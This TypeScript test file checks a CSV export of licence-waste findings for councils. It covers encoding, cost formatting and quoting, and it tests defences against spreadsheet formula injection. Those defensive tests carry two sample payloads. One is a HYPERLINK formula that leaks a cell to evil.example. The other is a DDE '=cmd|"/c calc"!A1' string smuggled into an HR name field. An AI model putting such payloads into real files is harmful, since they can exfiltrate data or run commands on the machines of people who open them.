import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type Finding, findWaste } from '../../../shared/licences/find-waste';
import { matchPeople } from '../../../shared/licences/match-people';
import { findingsCsv } from '../../../shared/licences/report-csv';
import { finding, prices, seat } from './licence-fixtures';

const HEADER = [
  'Finding',
  'Type',
  'Councils',
  'Accounts',
  'Licences counted',
  'Annual cost (GBP)',
  'Confidence',
  'Reasons',
  'Recommended action',
];

/** The CSV read back as Excel would: the BOM dropped, one array of cells per line. */
const rowsOf = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false });

describe('findingsCsv', () => {
  it('starts with a byte-order mark and the header, and ends lines as Windows does', () => {
    const csv = findingsCsv([finding('f1', ['CCC', 'HDC'])]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('\r\n');
    expect(csv.replace(/\r\n/g, '')).not.toContain('\n');
    expect(rowsOf(csv)[0]).toEqual(HEADER);
  });

  it('writes only the header when there are no findings', () => {
    expect(rowsOf(findingsCsv([]))).toEqual([HEADER]);
  });

  it('writes one row per finding, with its councils, accounts, licences, cost, confidence, reasons and action', () => {
    const duplicate: Finding = {
      ...finding('duplicate-seat:a+b', ['CCC', 'HDC']),
      reasons: ['same employee id E7', 'same email address pat@shared.example'],
      recommendedAction: 'Keep the seat in HDC.',
    };
    const leaver: Finding = {
      ...finding('leaver-licensed:c', ['SCDC'], 'leaver-licensed', 8_040),
      accounts: [
        {
          tenantId: 't',
          partnerCode: 'SCDC',
          id: 'c',
          userPrincipalName: 'leaver@scdc.example',
          displayName: 'Leaver',
          skuPartNumbers: ['SPE_E3', 'SPE_F1'],
        },
      ],
      skuPartNumbers: ['SPE_E3', 'SPE_F1'],
    };
    const rows = rowsOf(findingsCsv([duplicate, leaver])).slice(1);
    expect(rows).toEqual([
      [
        'duplicate-seat:a+b',
        'duplicate-seat',
        'CCC HDC',
        'CCC: duplicate-seat:a+b-0@ccc.example (SPE_E3); HDC: duplicate-seat:a+b-1@hdc.example (SPE_E3)',
        'SPE_E3',
        '396.00',
        'high',
        'same employee id E7; same email address pat@shared.example',
        'Keep the seat in HDC.',
      ],
      [
        'leaver-licensed:c',
        'leaver-licensed',
        'SCDC',
        'SCDC: leaver@scdc.example (SPE_E3, SPE_F1)',
        'SPE_E3, SPE_F1',
        '80.40',
        '',
        'test',
        'Remove a seat.',
      ],
    ]);
  });

  it('writes costs in pounds with two decimals', () => {
    const costs = [0, 5, 1_230, 39_600, 123_456_789].map((pence, i) =>
      finding(`f${i}`, ['CCC'], 'disabled-licensed', pence),
    );
    expect(
      rowsOf(findingsCsv(costs))
        .slice(1)
        .map((row) => row[5]),
    ).toEqual(['0.00', '0.05', '12.30', '396.00', '1234567.89']);
  });

  it('keeps quotes, commas, semicolons and line breaks in names intact', () => {
    const awkward = 'O\'Brien, "Pat"\r\nJr; the 2nd';
    const withName: Finding = {
      ...finding('f1', ['CCC'], 'inactive-licensed'),
      reasons: [`${awkward} never signed in`],
      recommendedAction: `Ask whether ${awkward} still needs a seat; remove it if not.`,
    };
    const rows = rowsOf(findingsCsv([withName]));
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[7]).toBe(`${awkward} never signed in`);
    expect(rows[1]?.[8]).toBe(`Ask whether ${awkward} still needs a seat; remove it if not.`);
  });

  it.each(['=', '+', '-', '@'])('defuses a cell that starts with %s, so Excel never runs it as a formula', (start) => {
    const name = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
    const injected: Finding = {
      ...finding('f1', ['CCC'], 'inactive-licensed'),
      reasons: [name],
      recommendedAction: `${name} should lose the seat.`,
    };
    const [, row] = rowsOf(findingsCsv([injected]));
    expect(row?.[7]).toBe(`'${name}`);
    expect(row?.[8]).toBe(`'${name} should lose the seat.`);
    // Cells that merely contain those characters are left alone.
    expect(row?.[3]).toBe('CCC: f1-0@ccc.example (SPE_E3)');
  });

  it('defuses a starter’s name from the HR feed, which begins the finding’s reasons', () => {
    const elsewhere = seat('CCC', { emails: ['evil@shared.example'] });
    const findings = findWaste({
      accounts: [elsewhere],
      people: matchPeople([elsewhere], { confirmed: [], rejected: [] }),
      prices,
      hr: [
        {
          employeeNumber: 'S1',
          name: '=cmd|"/c calc"!A1',
          workEmail: 'evil@shared.example',
          partnerCode: 'HDC',
          startDate: '2026-11-30',
          leaveDate: null,
        },
      ],
      exclusions: [],
      now: new Date('2026-11-22T09:00:00Z'),
      inactiveDays: 90,
    });
    expect(findings.map((f) => f.type)).toEqual(['starter-already-licensed']);
    const [, row] = rowsOf(findingsCsv(findings));
    expect(row?.[7]).toMatch(/^'=cmd\|"\/c calc"!A1 starts at HDC/);
  });

  it('leaves a cell with a formula character later in it alone', () => {
    const plain: Finding = { ...finding('f1', ['CCC']), reasons: ['a = b + c - d @ e'] };
    expect(rowsOf(findingsCsv([plain]))[1]?.[7]).toBe('a = b + c - d @ e');
  });
});
